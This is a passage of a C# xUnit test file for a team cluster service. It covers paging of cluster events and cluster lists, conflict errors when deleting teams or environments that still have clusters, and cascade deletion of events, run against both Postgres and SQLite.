        Assert.Equal(["requested"], second.Items.Select(e => e.Step));
        Assert.Null(second.NextCursor);
        Assert.All(first.Items.Concat(second.Items), e => Assert.Equal(created.Cluster.Id, e.ResourceId));
    }

    [Fact]
    public async Task List_PagesTheTeamsClustersByName()
    {
        var (owner, team) = await TeamWithDevAsync(EnvironmentName.Staging, EnvironmentName.Prod);
        await Clusters.RequestClusterAsync(owner, team.Slug, Request("charlie", EnvironmentName.Dev), Ct);
        await Clusters.RequestClusterAsync(owner, team.Slug, Request("alpha", EnvironmentName.Staging), Ct);
        await Clusters.AttachClusterAsync(owner, team.Slug, new AttachedCluster("bravo", EnvironmentName.Prod, Kubeconfig), Ct);

        var first = await Clusters.ListAsync(owner, team.Slug, new ClusterQuery(Limit: 2), Ct);
        var second = await Clusters.ListAsync(owner, team.Slug, new ClusterQuery(first.NextCursor, 2), Ct);

        Assert.Equal(["alpha", "bravo"], first.Items.Select(v => v.Cluster.Name));
        Assert.Equal([EnvironmentName.Staging, EnvironmentName.Prod], first.Items.Select(v => v.Environment));
        Assert.Equal(["charlie"], second.Items.Select(v => v.Cluster.Name));
    }

    [Fact]
    public async Task DeletingATeamOrEnvironment_WithClusters_Returns409()
    {
        var (owner, team) = await TeamWithDevAsync();
        await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);

        await Assert.ThrowsAsync<ConflictException>(() => Environments.DeleteAsync(owner, team.Slug, EnvironmentName.Dev, null, Ct));
        await Assert.ThrowsAsync<ConflictException>(() => Teams.DeleteTeamAsync(owner, team.Slug, null, Ct));

        await using var db = Database.CreateContext();
        Assert.True(await db.Teams.AnyAsync(t => t.Id == team.Id));
        Assert.True(await db.Environments.AnyAsync(e => e.TeamId == team.Id));
    }

    [Fact]
    public async Task DeletingATeamWithoutClusters_StillWorks_AndTakesItsTimelineAlong()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        // As the reconciler does once AWS is clean.
        await using (var db = Database.CreateContext())
            await db.Clusters.Where(c => c.Id == created.Cluster.Id).ExecuteDeleteAsync(Ct);

        await Environments.DeleteAsync(owner, team.Slug, EnvironmentName.Dev, null, Ct);
        await Teams.DeleteTeamAsync(owner, team.Slug, null, Ct);

        Assert.Empty(await EventsOfAsync(created.Cluster.Id));
    }
}

public sealed class ClusterServiceTestsOnPostgres(PostgresDatabaseFixture database)
    : ClusterServiceTests(database), IClassFixture<PostgresDatabaseFixture>;

public sealed class ClusterServiceTestsOnSqlite(SqliteDatabaseFixture database)
    : ClusterServiceTests(database), IClassFixture<SqliteDatabaseFixture>;
